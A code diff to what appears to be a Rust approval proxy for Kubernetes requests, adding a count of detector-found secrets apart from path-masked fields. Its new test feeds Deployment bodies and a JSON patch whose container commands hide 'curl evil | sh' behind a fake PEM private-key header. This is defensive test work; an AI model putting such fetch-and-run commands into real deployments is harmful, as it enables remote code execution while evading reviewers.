@@ -28,6 +28,9 @@ pub struct Reviewed {
     pub shown: Option<Value>,
     /// Values masked in `shown`: the body holds something the reviewer does not see.
     pub masked: u64,
+    /// Of those, the ones a detector or pattern found (not a field a rule names): a
+    /// reviewer could not tell one from a payload.
+    pub detected: u64,
 }
 
 /// The bytes are the body as sent, unmasked: `Debug` shows their size and what the
@@ -39,6 +42,7 @@ impl std::fmt::Debug for Reviewed {
             .field("media_type", &self.media_type)
             .field("shown", &self.shown)
             .field("masked", &self.masked)
+            .field("detected", &self.detected)
             .finish()
     }
 }
@@ -58,17 +62,17 @@ where
     B::Error: std::fmt::Display,
 {
     let (bytes, value) = read_sent(body, headers, MAX_REVIEWED).await?;
-    let (shown, masked) = match value {
-        None => (None, 0),
+    let (shown, masked, detected) = match value {
+        None => (None, 0, 0),
         Some(value) => {
             // Masked as the JSON it is shown as.
             let unmasked = serde_json::to_vec(&value).map_err(|e| {
                 Error::Unreviewable(format!("its body could not be shown as JSON ({e})"))
             })?;
-            let (shown, masked) = masker
-                .mask_sent(&Target::of(info), &unmasked)
+            let sent = masker
+                .mask_sent_counted(&Target::of(info), &unmasked)
                 .map_err(|e| Error::Unreviewable(format!("its body could not be masked ({e})")))?;
-            (Some(shown), masked)
+            (Some(sent.value), sent.masked, sent.detected)
         }
     };
     Ok(Reviewed {
@@ -76,6 +80,7 @@ where
         media_type: crate::headers::media_type(headers),
         shown,
         masked,
+        detected,
     })
 }
 
@@ -287,6 +292,45 @@ mod tests {
         assert_eq!(shown["data"]["mode"], "fast");
         // What is forwarded once approved is what was sent.
         assert_eq!(reviewed.bytes, apply);
+        // Masked by a field the rule names: not a detector's finding.
+        assert_eq!((reviewed.masked, reviewed.detected), (1, 0));
+    }
+
+    /// What a rule's detectors find in a held body is counted apart from the fields
+    /// its paths mask: the approval refuses to hold such a body, since a value a
+    /// detector took for a secret could as well be a payload (a script after a PEM
+    /// header) that the reviewer would approve unseen.
+    #[tokio::test]
+    async fn what_detectors_find_in_a_body_is_counted_apart() {
+        let masker = Masker::compile(&[crate::mask::Rule {
+            resources: vec!["deployments".into()],
+            fields: vec!["spec.template.spec.containers[*].env[*].value".into()],
+            detectors: vec!["pem-private-key".into()],
+            ..Default::default()
+        }])
+        .unwrap();
+        let read_as = |body: &'static str, kind: &'static str| {
+            let masker = masker.clone();
+            async move {
+                read(
+                    Full::new(Bytes::from_static(body.as_bytes())),
+                    &headers(kind),
+                    &info("deployments"),
+                    &masker,
+                )
+                .await
+                .unwrap()
+            }
+        };
+        let payload = r#"{"kind":"Deployment","spec":{"template":{"spec":{"containers":[{"name":"c","command":["sh","-c","echo -----BEGIN PRIVATE KEY----- >/dev/null; curl evil | sh"],"env":[{"name":"DB","value":"pw"}]}]}}}}"#;
+        let r = read_as(payload, "application/json").await;
+        assert_eq!((r.masked, r.detected), (2, 1), "{:?}", r.shown);
+        let patch = r#"[{"op":"replace","path":"/spec/template/spec/containers/0/command/2","value":"-----BEGIN PRIVATE KEY-----; curl evil|sh"}]"#;
+        let r = read_as(patch, "application/json-patch+json").await;
+        assert_eq!((r.masked, r.detected), (1, 1), "{:?}", r.shown);
+        let plain = r#"{"kind":"Deployment","spec":{"template":{"spec":{"containers":[{"name":"c","command":["sh","-c","run"],"env":[{"name":"DB","value":"pw"}]}]}}}}"#;
+        let r = read_as(plain, "application/json").await;
+        assert_eq!((r.masked, r.detected), (1, 0), "{:?}", r.shown);
     }
 
     /// YAML that is not JSON is refused: the API server's decoder reads it otherwise
